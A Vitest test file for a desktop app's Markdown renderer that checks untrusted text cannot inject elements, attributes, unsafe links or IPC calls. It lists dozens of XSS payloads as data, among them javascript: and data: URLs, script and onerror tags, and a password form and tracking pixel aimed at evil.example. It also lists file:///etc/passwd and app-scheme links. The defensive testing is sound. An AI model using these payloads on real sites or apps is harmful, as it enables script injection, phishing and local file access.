import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { setTransport } from '@/ipc/transport';
import { Markdown } from './markdown';

vi.mock('@tanstack/react-router', () => ({ useNavigate: () => vi.fn() }));

const invoke = vi.fn(() => Promise.resolve(null));
beforeEach(() => {
  invoke.mockClear();
  setTransport({ invoke, stream: invoke, listen: () => Promise.resolve(() => {}) });
});

const SCHEMES = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'java&#115;cript:alert(1)',
  'javascript&#58;alert(1)',
  '&#x6A;avascript:alert(1)',
  'javascript&colon;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  'tauri://localhost/x',
  'asset://localhost/etc/passwd',
  'ipc://localhost/run',
  'blob:null/x',
  'about:blank',
  '//evil.example/x',
  '/absolute',
  './relative',
  '#fragment',
  'weft://delete/all',
];

const HTML = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object>',
  '<embed src="x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" onclick="alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<style>*{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea autofocus onfocus=alert(1)>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<x onclick=alert(1)>x</x>',
  '<!--><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '<img/src=`x`onerror=alert(1)>',
  '<isindex type=image src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p>ok</p><script>alert(1)',
  '<SCRIPT>alert(1)</SCRIPT>',
];

const MARKDOWN = [
  '![x](https://evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '![x][pixel]\n\n[pixel]: https://evil.example/pixel.png',
  '[x][bad]\n\n[bad]: javascript:alert(1)',
  '[x](<javascript:alert(1)>)',
  '[x](javascript:alert(1) "title")',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '<javascript:alert(1)>',
  '[x](java\nscript:alert(1))',
  '[a](javascript:alert%281%29)',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  '- [ ] <img src=x onerror=alert(1)>',
  '# <svg onload=alert(1)>',
  'x[^1]\n\n[^1]: <script>alert(1)</script>',
  '[x](https://user:pw@evil.example)',
  '[x](https://evil.example/\u202Efdp)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<https://evil.example/"onmouseover="alert(1)>',
];

const PAYLOADS = [...SCHEMES.map((url) => `[press](${url})`), ...HTML, ...MARKDOWN];

/** Elements that the renderer makes. Whatever else turns up came out of somebody's text. */
const MADE =
  /^(DIV|P|H3|H4|H5|H6|EM|STRONG|DEL|CODE|PRE|BR|HR|BLOCKQUOTE|OL|UL|LI|TABLE|THEAD|TBODY|TR|TH|TD|BUTTON|SPAN|SUP|LABEL|INPUT|svg|path|polyline)$/;
const ATTRIBUTES =
  /^(class|type|role|title|style|start|aria-hidden|checked|disabled|xmlns|width|height|viewBox|fill|stroke|stroke-width|stroke-linecap|stroke-linejoin|d|points)$/;

describe('harvested Markdown', () => {
  it('has at least sixty payloads to refuse', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(60);
  });

  it.each(PAYLOADS)('stays data: %j', (text) => {
    const { container } = render(<Markdown text={text} />);
    for (const element of container.querySelectorAll('*')) {
      expect(element.tagName).toMatch(MADE);
      for (const { name, value } of element.attributes) {
        expect(name).toMatch(ATTRIBUTES);
        if (name === 'style') expect(value).toMatch(/^(text-align: (left|right|center);)?$/);
        if (name === 'type') expect(value).toMatch(/^(button|checkbox)$/);
      }
    }
    // What can be pressed leads to web pages only, and nothing was opened by itself.
    for (const link of screen.queryAllByRole('link')) expect(link.title).toMatch(/^https?:\/\/[^@]*$/);
    expect(invoke).not.toHaveBeenCalled();
  });

  it('opens a web page only on a click', async () => {
    render(<Markdown text="See [the guide](https://example.org/guide)." />);
    await userEvent.click(screen.getByRole('link', { name: 'the guide' }));
    expect(invoke).toHaveBeenCalledWith('open_external', { url: 'https://example.org/guide' });
  });

  it('does not load images, and says so', () => {
    render(<Markdown text="![The flow](https://example.org/flow.png)" />);
    expect(screen.queryByRole('img')).toBeNull();
    expect(screen.getByText('Image, not loaded: The flow')).toBeInTheDocument();
  });

  it('draws what people write', () => {
    const { container } = render(
      <Markdown
        text={
          '# Use it for\n\n- *one*\n- **two**\n\n1. `three`\n\n> quoted\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n- [x] done\n\n~~old~~ www.example.org'
        }
      />,
    );
    expect(screen.getByRole('heading', { name: 'Use it for', level: 3 })).toBeInTheDocument();
    expect(container.querySelectorAll('li')).toHaveLength(4);
    expect(screen.getByRole('cell', { name: '2' })).toHaveStyle({ textAlign: 'right' });
    expect(screen.getByRole('checkbox')).toBeChecked();
    expect(screen.getByRole('link', { name: 'www.example.org' })).toBeInTheDocument();
    expect(container.querySelector('del')).toHaveTextContent('old');
  });

  it.each([
    ['quotes', '> '.repeat(5000) + 'deep'],
    ['lists', Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
    ['brackets', '['.repeat(60_000)],
    ['stars', '*a '.repeat(30_000)],
    ['backticks', '`'.repeat(50_000)],
    ['emphasis', '**'.repeat(900) + 'x' + '**'.repeat(900)],
    ['entities', '&'.repeat(30_000)],
    ['half a megabyte', 'word '.repeat(110_000)],
  ])('survives %s', (_name, text) => {
    const { container } = render(<Markdown text={text} />);
    expect(container.textContent.length).toBeGreaterThan(0);
    let deepest = 0;
    for (const element of container.querySelectorAll('*')) {
      let depth = 0;
      for (let at: Element | null = element; at && at !== container; at = at.parentElement) depth += 1;
      deepest = Math.max(deepest, depth);
    }
    expect(deepest).toBeLessThan(200);
  });

  it('says when the end is cut off', () => {
    render(<Markdown text={'a'.repeat(300_000)} />);
    expect(screen.getByText(/longer than 256 KiB/)).toBeInTheDocument();
  });
});
